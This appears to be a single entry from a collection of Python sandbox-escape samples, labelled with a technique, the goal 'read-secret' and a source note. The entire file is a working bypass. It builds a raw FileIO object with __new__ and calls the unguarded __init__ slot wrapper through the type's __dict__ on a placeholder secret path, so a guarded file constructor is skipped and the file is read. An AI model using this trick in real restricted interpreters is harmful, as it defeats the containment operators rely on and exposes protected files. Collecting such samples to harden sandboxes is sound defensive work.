# technique: FileIO.__new__, then the slot wrapper of __init__ by descriptor
# goal: read-secret
# source: own analysis: the constructor guarded, its parts not
import sys
kind = type(sys.stdin.buffer.raw)
file = kind.__new__(kind)
kind.__dict__['__init__'].__get__(file)('@SECRET@')
print(file.read())
